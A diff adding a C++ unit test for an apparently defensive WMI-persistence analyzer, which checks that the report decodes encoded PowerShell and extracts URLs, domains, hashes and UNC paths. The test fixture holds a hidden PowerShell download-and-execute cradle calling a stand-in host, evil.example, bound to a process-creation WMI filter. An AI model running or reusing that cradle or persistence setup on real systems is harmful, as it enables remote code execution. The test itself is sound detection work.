@@ -12,6 +12,7 @@
 
 #include <doctest/doctest.h>
 
+#include <algorithm>
 #include <atomic>
 #include <chrono>
 #include <cmath>
@@ -823,6 +824,41 @@ TEST_CASE("snapshot JSON keeps annotations, object by object and by path, and wh
     CHECK(lenient->filters.empty());
     REQUIRE_FALSE(lenient->errors.empty());
     CHECK(lenient->errors.back().error.location.source.find("/filters/0/provenance/annotations/0/kind") != std::string::npos);
+}
+
+TEST_CASE("reports carry what the payload really does: decoded layers in full, indicators and observables") {
+    // -Enc of: IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1'); certutil -hashfile x <sha256>
+    const std::string inner = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example:8080/a.ps1'); "
+                              "$h = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'";
+    std::string utf16;
+    for (const char c : inner) {
+        utf16 += c;
+        utf16 += '\0';
+    }
+    mock_collector source;
+    source.filter("F", "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'")
+        .command_line_consumer("C", "powershell.exe -nop -w hidden -enc " + base64_encode(utf16) + " \\\\10.1.2.3\\share\\x.exe")
+        .bind("F", "C");
+    auto snap = source.collect();
+    REQUIRE(snap);
+    const subscription_graph graph(*snap);
+    const auto results = assess(graph, rule_catalog::builtin());
+    const json_value report = report_to_json(results, graph.source());
+    const json_value& payload = report["subscriptions"][0]["payload"];
+    REQUIRE(payload.is_object());
+    CHECK(payload["executable"]["raw"] == "powershell.exe");
+    REQUIRE(payload["layers"].size() >= 1);
+    CHECK(payload["layers"][0]["encoding"] == "base64_utf16le");
+    CHECK(payload["layers"][0]["text"] == inner);  // in full, never decoded by hand
+    const json_value& seen = payload["observables"];
+    CHECK(seen["urls"][0] == "http://evil.example:8080/a.ps1");
+    CHECK(seen["domains"][0] == "evil.example");
+    CHECK(seen["hashes"][0] == "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
+    bool unc = false;
+    for (const auto& p : seen["unc_paths"]) unc = unc || p.get<std::string>().find("10.1.2.3") != std::string::npos;
+    CHECK(unc);
+    CHECK_FALSE(payload["indicators"].empty());
+    CHECK(std::find(payload["capabilities"].begin(), payload["capabilities"].end(), "downloads") != payload["capabilities"].end());
 }
 
 TEST_CASE("report_writer streams the report_to_json document, bounded, one subscription at a time") {
